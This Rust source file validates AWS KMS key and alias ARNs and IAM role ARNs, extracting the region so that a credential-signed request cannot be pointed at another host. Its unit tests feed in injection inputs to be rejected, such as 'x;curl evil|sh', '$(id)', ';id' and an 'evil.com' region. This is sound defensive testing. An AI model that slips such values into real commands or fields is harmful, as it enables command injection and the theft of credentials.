//! ARNs of keys and aliases of KMS, as far as they tell where to ask.

use std::sync::LazyLock;

use regex::Regex;

use crate::keys::KeyParseError;

/// Returns the region of the ARN of a key or an alias.
///
/// sops takes anything but an empty text for a region. It becomes a part of a host name, to which a request signed
/// with the user's credentials goes, so that here it must be a name. The rest must be of the letters that AWS has in
/// identifiers and aliases: people are told of the ARN in commands that they may paste to a shell.
///
/// # Errors
/// If it is no such ARN.
pub fn region_of(arn: &str) -> Result<&str, KeyParseError> {
    let region = ARN.captures(arn).and_then(|found| found.get(1)).map(|region| region.as_str());
    region.ok_or_else(|| KeyParseError::new(arn, EXPECTED))
}

/// Takes the ARN of a role, if it is of the letters that AWS has in names and paths of roles.
///
/// # Errors
/// If there are others in it.
pub fn check_role(role: &str) -> Result<(), KeyParseError> {
    if ROLE.is_match(role) { Ok(()) } else { Err(KeyParseError::new(role, EXPECTED_ROLE)) }
}

static ROLE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^arn:[A-Za-z0-9/_+=,.@:-]+$").expect("the pattern is valid"));

const EXPECTED_ROLE: &str = "the ARN of a role of AWS, such as arn:aws:iam::111122223333:role/NAME";

static ARN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^arn:aws[a-zA-Z0-9_-]*:kms:([a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?):[0-9]+:(?:key|alias)/[A-Za-z0-9:/_-]+$")
        .expect("the pattern is valid")
});

const EXPECTED: &str =
    "the ARN of a key of AWS KMS, such as arn:aws:kms:eu-west-1:111122223333:key/ID or one with :alias/NAME";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_region_is_that_of_the_arn() {
        for (arn, region) in [
            ("arn:aws:kms:us-west-2:111122223333:key/612d5f0d", "us-west-2"),
            ("arn:aws:kms:us-west-2:111122223333:alias/a/b", "us-west-2"),
            ("arn:aws-cn:kms:cn-north-1:1:key/mrk-1", "cn-north-1"),
            ("arn:aws-us-gov:kms:us-gov-east-1:1:key/x", "us-gov-east-1"),
        ] {
            assert_eq!(region_of(arn), Ok(region));
        }
    }

    #[test]
    fn a_region_that_is_no_name_is_no_region() {
        for region in
            ["", "x.example.com/", "x.example.com#", "evil.com", "a:b", "a@b", "-a", "a-", "ä", "EU"]
        {
            let arn = format!("arn:aws:kms:{region}:111122223333:key/612d5f0d");
            assert_eq!(region_of(&arn).expect_err("no region").text, arn);
        }
    }

    #[test]
    fn what_is_no_key_is_no_arn() {
        for arn in [
            "",
            "612d5f0d",
            "alias/x",
            "arn:aws:kms:us-west-2:111122223333:key/",
            "arn:aws:kms:us-west-2::key/x",
            "arn:aws:kms:us-west-2:a:key/x",
            "arn:aws:iam::111122223333:role/x",
            "arn:aws:kms:eu-west-1:1:key/x;curl evil|sh",
            "arn:aws:kms:eu-west-1:1:alias/$(id)",
            "arn:aws:kms:eu-west-1:1:alias/a b",
            "arn:aws:kms:eu-west-1:1:key/x\n",
            "arn:gcp:kms:us-west-2:1:key/x",
            " arn:aws:kms:us-west-2:1:key/x",
        ] {
            region_of(arn).expect_err(arn);
        }
    }

    #[test]
    fn a_role_is_of_the_letters_of_roles() {
        check_role("arn:aws:iam::111122223333:role/a/b_c+=,.@-d").expect("a role");
        for role in
            ["", "role", "arn:aws:iam::1:role/x;id", "arn:aws:iam::1:role/$(id)", "arn:aws:iam::1:role/x\n"]
        {
            assert_eq!(check_role(role).expect_err("no role").text, role);
        }
    }
}
